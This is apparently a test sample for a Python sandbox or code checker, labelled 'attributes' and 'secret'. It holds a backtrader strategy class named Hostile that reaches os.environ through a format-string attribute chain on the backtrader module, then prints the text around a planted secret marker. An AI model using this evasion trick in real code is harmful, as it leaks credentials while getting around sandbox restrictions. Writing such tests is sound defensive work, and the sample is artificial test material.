# verdict: OK
# family: attributes
# witness: secret
# Read the environment by way of a format string, which needs no name of its own.
import backtrader as bt


class Hostile(bt.Strategy):
    def next(self):
        text = "{0.feed.os.environ}".format(bt)
        place = text.find("@SECRET@")
        print(text[place : place + 40] if place >= 0 else "nothing")
